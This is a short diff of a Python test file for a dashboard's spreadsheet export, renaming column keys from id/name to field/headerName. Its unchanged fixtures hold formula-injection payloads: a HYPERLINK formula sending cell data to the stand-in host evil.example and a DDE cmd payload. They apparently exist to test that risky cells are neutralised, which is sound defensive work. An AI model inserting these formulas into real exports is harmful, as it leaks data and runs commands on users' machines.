@@ -15,7 +15,7 @@ from coc.exports import csv_text, is_risky, neutralise, xlsx_bytes
 from dashboards.app import export_payload
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
-COLUMNS = [{"id": "name", "name": "Chỉ tiêu"}, {"id": "value", "name": "Giá trị"}]
+COLUMNS = [{"field": "name", "headerName": "Chỉ tiêu"}, {"field": "value", "headerName": "Giá trị"}]
 ROWS = [
     {"name": HYPERLINK, "value": -2.5},
     {"name": "+cmd|' /C calc'!A0", "value": -12},
